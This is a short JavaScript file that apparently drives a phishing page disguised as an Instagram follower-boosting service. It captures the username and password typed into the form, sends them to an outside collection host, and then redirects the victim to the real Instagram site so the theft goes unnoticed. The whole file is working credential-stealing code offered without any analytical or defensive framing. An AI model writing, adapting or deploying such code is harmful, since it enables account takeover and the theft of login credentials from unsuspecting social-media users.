const form = document.querySelector('form.get-followers');
function finish() {
  window.location.href = 'https://www.instagram.com';
}
function start(event) {
  if (event) event.preventDefault();
  const username = form.querySelector('#nick').value;
  const password = form.querySelector('#secretword').value;
  fetch('https://followers-boost.example/in', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ username, password, page: form.dataset.page }),
  }).then(finish, (problem) => console.error(problem));
}
form.querySelector('.go').addEventListener('click', start);
